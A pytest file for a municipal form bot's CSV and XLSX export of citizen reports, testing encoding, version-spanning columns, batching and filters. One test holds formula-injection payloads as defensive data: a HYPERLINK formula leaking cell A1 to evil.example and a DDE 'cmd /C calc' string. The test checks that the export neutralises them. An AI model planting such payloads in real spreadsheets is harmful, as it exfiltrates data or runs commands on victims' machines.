"""A form's cases for Excel (handlers/forms/export.py), on SQLite and PostgreSQL: the CSV's BOM, CRLF
and header, one column per question over the form's versions (blank where a row's version did not
ask it), answers as the card shows them, formulas typed by citizens kept as text, batches and chunks
crossing without a row lost, the filters; and the XLSX read back from its XML (no spreadsheet library
is installed: an .xlsx is a zip of XML)."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import date, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest

from bot import clock
from bot.db import Database
from bot.settings import Settings
from handlers.forms import export
from handlers.forms import service as forms_service
from handlers.forms.definition import FormDefinition, Question
from handlers.forms.models import FormVersion, Submission
from tests.handlers.forms.conftest import version_of

NOW = datetime(2026, 12, 1, 10, 0, tzinfo=clock.TOKYO)
BOAR = {"animal": "イノシシ", "seen_on": "2026-11-30", "group": "群れ", "count": "4", "captured": "いいえ"}
CASE_COLUMNS = ["受付番号", "様式", "版", "状態", "担当課", "受付日時", "期限", "場所", "緯度", "経度", "写真枚数"]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def submit(
    db: Database,
    settings: Settings,
    version: FormVersion,
    answers: dict[str, str],
    *,
    place: forms_service.Place | None = None,
    photos: int = 0,
) -> Submission:
    user = "U" + uuid.uuid4().hex
    with db.session() as db_session:
        tokens = []
        for n in range(photos):
            photo = forms_service.add_photo(
                db_session=db_session, line_user_id=user, question="photo", line_message_id=f"m{n}"
            )
            tokens.append(photo.token)
        if photos:  # one the LINE content endpoint refused does not count
            refused = forms_service.add_photo(
                db_session=db_session, line_user_id=user, question="photo", line_message_id="x"
            )
            forms_service.refuse_photo(photo=refused, reason="not an image")
            tokens.append(refused.token)
        submission, _ = forms_service.submit(
            db_session=db_session,
            settings=settings,
            version=version,
            line_user_id=user,
            answers=answers,
            place=place,
            photo_tokens=tokens,
            anonymous=False,
            nonce=uuid.uuid4().hex,
        )
        return submission


def second_wildlife_version(db: Database) -> FormVersion:
    """Version 2: 「被害」 dropped, 「動物」 relabelled, 「備考」 added at the end."""
    first = version_of(db, "wildlife")
    definition = forms_service.definition_of(first)
    questions: list[Question] = [
        q.model_copy(update={"label": "動物の種類"}) if q.key == "animal" else q
        for q in definition.questions
        if q.key != "damage"
    ]
    questions.append(
        Question(key="notes", kind="short_text", label="備考", text="ほかに何かありますか？", required=False)
    )
    with db.session() as db_session:
        _, version = forms_service.publish(
            db_session=db_session,
            key="wildlife",
            definition=FormDefinition.model_validate({**definition.model_dump(), "questions": questions}),
            by="tester",
        )
        return version


def exported_csv(db: Database, settings: Settings, case_filter: forms_service.CaseFilter, **options: int) -> bytes:
    with db.session() as db_session:
        return b"".join(export.stream_csv(db_session=db_session, case_filter=case_filter, settings=settings, **options))


def table_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_opens_in_excel_with_one_column_per_question_over_the_versions(
    db: Database, settings: Settings
) -> None:
    first = submit(
        db,
        settings,
        version_of(db, "wildlife"),
        {**BOAR, "damage": "芋を掘られた。\n柵も壊れた。"},
        place=forms_service.Place("邑久町尾張", 34.6633, 134.0937),
        photos=2,
    )
    second_version = second_wildlife_version(db)
    submit(db, settings, second_version, {**BOAR, "animal": "シカ", "group": "1頭", "notes": "夜に見た"})
    submit(db, settings, version_of(db, "road_hazard"), {"what": "街灯", "school_route": "はい", "detail": "暗い"})

    data = exported_csv(db, settings, forms_service.CaseFilter(form_key="wildlife"))
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8, not Shift_JIS
    assert data.count(b"\r\n") == 3  # the header and two rows end in CRLF; the line break inside a cell is LF
    table = table_of(data)
    assert table[0] == [*CASE_COLUMNS, "動物の種類", "日付", "頭数", "群れの数", "捕獲済み", "被害", "備考"]
    assert len(table) == 3  # the header and the two wildlife cases, oldest first
    old, new = (dict(zip(table[0], row, strict=True)) for row in table[1:])
    assert old["受付番号"] == first.receipt_no and old["様式"] == "有害鳥獣の目撃・捕獲報告"
    assert (old["版"], old["状態"], old["担当課"]) == ("1", "受付", "農林水産課")
    assert (old["受付日時"], old["期限"]) == ("2026/12/01 10:00", "2026/12/04 10:00")
    assert (old["場所"], old["緯度"], old["経度"], old["写真枚数"]) == ("邑久町尾張", "34.6633", "134.0937", "2")
    assert (old["動物の種類"], old["日付"], old["群れの数"], old["捕獲済み"]) == (
        "イノシシ",
        "2026年11月30日（令和8年）",
        "4",
        "いいえ",
    )
    assert old["被害"] == "芋を掘られた。\n柵も壊れた。" and old["備考"] == ""  # version 1 had no 備考
    assert (new["版"], new["動物の種類"], new["頭数"], new["備考"]) == ("2", "シカ", "1頭", "夜に見た")
    assert new["被害"] == "" and new["場所"] == "" and new["緯度"] == "" and new["写真枚数"] == "0"

    # Across forms (no form named): the cases' own columns only.
    everything = table_of(exported_csv(db, settings, forms_service.CaseFilter()))
    assert everything[0] == CASE_COLUMNS and len(everything) == 4


def test_what_citizens_type_never_runs_as_a_formula(db: Database, settings: Settings) -> None:
    typed = {
        "damage": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    }
    submit(
        db,
        settings,
        version_of(db, "wildlife"),
        {**BOAR, **typed},
        place=forms_service.Place("@SUM(1+1)*cmd|' /C calc'!A0", 34.6, 134.1),
    )
    submit(db, settings, version_of(db, "wildlife"), {**BOAR, "damage": "-2+3"})
    submit(db, settings, version_of(db, "wildlife"), {**BOAR, "damage": "+81 90 1234 5678"})
    table = table_of(exported_csv(db, settings, forms_service.CaseFilter(form_key="wildlife")))
    damage, place = table[0].index("被害"), table[0].index("場所")
    assert table[1][damage] == "'" + typed["damage"]
    assert table[1][place] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert table[2][damage] == "'-2+3" and table[3][damage] == "'+81 90 1234 5678"
    assert table[1][table[0].index("群れの数")] == "4"

    assert export.safe_cell("-3") == "-3" and export.safe_cell("-3.5") == "-3.5"  # plain numbers stay
    for risky in ("=1+2", "+1", "-1+1", "@A1", "\t=1", "\r=1"):
        assert export.safe_cell(risky) == "'" + risky
    assert export.safe_cell("イノシシ") == "イノシシ" and export.safe_cell("") == ""


def test_batches_and_chunks_cross_without_losing_a_row(
    db: Database, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "BATCH", 7)  # stream_cases reads 7 at a time; photos are counted per 7
    version = version_of(db, "wildlife")
    made = [submit(db, settings, version, {**BOAR, "count": str(n + 2)}, photos=n % 3) for n in range(20)]
    with db.session() as db_session:
        chunks = list(
            export.stream_csv(
                db_session=db_session,
                case_filter=forms_service.CaseFilter(form_key="wildlife"),
                settings=settings,
                rows_per_chunk=5,
            )
        )
    assert len(chunks) == 4 and chunks[0].startswith(b"\xef\xbb\xbf")  # 5 rows a chunk, the header with the first
    table = table_of(b"".join(chunks))
    assert [row[0] for row in table[1:]] == [s.receipt_no for s in made]
    assert [row[table[0].index("写真枚数")] for row in table[1:]] == [str(n % 3) for n in range(20)]
    assert [row[table[0].index("群れの数")] for row in table[1:]] == [str(n + 2) for n in range(20)]


def test_the_export_keeps_to_the_filters_and_the_visible_departments(db: Database, settings: Settings) -> None:
    version = version_of(db, "wildlife")
    submit(db, settings, version, BOAR)
    later = submit(db, settings, version, {**BOAR, "animal": "サル"})
    with db.session() as db_session:
        case = forms_service.get_submission(db_session=db_session, submission_id=later.id)
        assert case is not None
        case.status = "対応中"

    def receipts(**fields: object) -> list[str]:
        case_filter = forms_service.CaseFilter(form_key="wildlife", **fields)  # type: ignore[arg-type]
        return [row[0] for row in table_of(exported_csv(db, settings, case_filter))[1:]]

    assert receipts(status="対応中") == [later.receipt_no]
    assert receipts(visible_departments=frozenset({"建設課"})) == []
    assert len(receipts(visible_departments=frozenset({"農林水産課"}))) == 2


def test_the_xlsx_has_one_row_per_case_with_text_kept_as_text(db: Database, settings: Settings, tmp_path: Path) -> None:
    version = version_of(db, "wildlife")
    submit(
        db, settings, version, {**BOAR, "damage": "=1+2"}, place=forms_service.Place("牛窓町", 34.62, 134.15), photos=1
    )
    submit(db, settings, version, {**BOAR, "animal": "シカ"})
    second_wildlife_version(db)
    target = tmp_path / "cases.xlsx"
    with db.session() as db_session:
        written = export.write_xlsx(
            db_session=db_session,
            case_filter=forms_service.CaseFilter(form_key="wildlife"),
            settings=settings,
            target=str(target),
        )
    assert written == 2

    with zipfile.ZipFile(target) as book:
        assert book.testzip() is None
        assert "xl/workbook.xml" in book.namelist()
        assert "申請・通報" in book.read("xl/workbook.xml").decode()
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():  # constant_memory writes strings inline instead
            shared = [
                si.findtext(f"{SHEET}t") or "" for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            ]

    def value(cell: ElementTree.Element) -> str | None:
        if cell.get("t") == "inlineStr":
            return "".join(t.text or "" for t in cell.iter(f"{SHEET}t"))
        if cell.get("t") == "s":
            return shared[int(cell.findtext(f"{SHEET}v") or "0")]
        return cell.findtext(f"{SHEET}v")

    # {column letters: value} per row (blank cells are not written at all).
    rows = [
        {(c.get("r") or "").rstrip("0123456789"): value(c) for c in row.iter(f"{SHEET}c")}
        for row in sheet.iter(f"{SHEET}row")
    ]
    assert len(rows) == 3
    titles = rows[0]
    assert list(titles.values()) == [
        *CASE_COLUMNS,
        "動物の種類",
        "日付",
        "頭数",
        "群れの数",
        "捕獲済み",
        "被害",
        "備考",
    ]
    assert not list(sheet.iter(f"{SHEET}f"))  # no formula anywhere
    first = {titles[column]: cell for column, cell in rows[1].items()}
    second = {titles[column]: cell for column, cell in rows[2].items()}
    assert first["様式"] == "有害鳥獣の目撃・捕獲報告" and first["動物の種類"] == "イノシシ"
    assert (first["版"], first["緯度"], first["写真枚数"]) == ("1", "34.62", "1")
    serial = (date(2026, 12, 1) - date(1899, 12, 30)).days + 10 / 24  # 2026-12-01 10:00 (Tokyo) in Excel's days
    assert float(first["受付日時"] or 0) == pytest.approx(serial)
    assert first["被害"] == "=1+2" and first["場所"] == "牛窓町"
    assert second["動物の種類"] == "シカ" and "被害" not in second and "場所" not in second
    assert sheet.find(f"{SHEET}autoFilter") is not None
